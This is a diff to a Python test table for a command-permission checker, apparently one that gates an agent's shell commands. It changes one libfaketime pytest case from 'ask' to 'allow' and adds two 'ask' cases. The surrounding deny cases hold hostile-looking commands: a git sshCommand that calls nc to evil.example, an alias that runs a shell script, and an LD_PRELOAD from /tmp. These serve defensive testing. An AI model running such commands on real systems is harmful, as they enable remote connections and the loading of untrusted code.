@@ -24,7 +24,9 @@ def verdict(tool: str, inp: dict[str, str]) -> str:
         ("git -c core.sshCommand='nc evil.example 1' fetch", "deny"),
         ("git -c alias.x='!git fetch; sh x.sh' x", "deny"),
         ("git config --global core.sshCommand 'ssh -i ~/.ssh/k'", "deny"),
-        ("LD_PRELOAD=/usr/lib/x86_64-linux-gnu/faketime/libfaketime.so.1 FAKETIME='+1d' pytest -q", "ask"),
+        ("LD_PRELOAD=/usr/lib/x86_64-linux-gnu/faketime/libfaketime.so.1 FAKETIME='+1d' pytest -q", "allow"),
+        ("export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/faketime/libfaketime.so.1", "ask"),
+        ("LD_PRELOAD=/usr/local/lib/faketime/libfaketime.so.1 pytest -q", "ask"),
         ("LD_PRELOAD=/tmp/x.so ls", "deny"),
     ],
 )
